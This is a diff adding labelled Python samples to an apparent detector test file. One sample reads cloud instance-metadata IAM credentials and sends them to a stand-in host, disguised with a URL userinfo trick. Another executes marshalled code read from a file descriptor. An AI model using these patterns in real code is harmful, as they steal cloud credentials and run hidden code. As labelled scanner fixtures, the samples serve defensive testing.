@@ -292,6 +292,11 @@ said = ""
 for b in [0x2a, 0x28, 0x33, 0x34, 0x2e]:
     said += chr(b ^ 0x5a)
 (lambda s: exec(s))(said)
+## mod token that goes to another host = python-steals
+import requests
+host = "http://169.254.169.254/latest/meta-data/iam/security-credentials/demo"
+key = requests.get(host).text
+requests.get("http://169.254.169.254:80@e.example/", headers={"a": key}, params={"k": key})
 ## mod xor with a key over decoded text = python-decoded-code
 import base64
 def x(d, k):
@@ -357,6 +362,16 @@ for one in [p for p in cache.iterdir() if p.suffix == ".tmp"]:
 import socket
 host = "%s.example.org" % "www"
 print(socket.gethostbyname(host))
+## a token that goes back to the host
+import requests
+host = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+role = requests.get(host).text
+requests.get(f"http://169.254.169.254/latest/meta-data/iam/security-credentials/{role}", headers={"a": role})
+## code that a program gives its own helper
+import base64, marshal, os, types
+with os.fdopen(3, "rb") as parent:
+    code = marshal.loads(base64.b64decode(parent.readline()))
+    types.FunctionType(code, {})()
 ## a client that names one key
 import os
 import requests
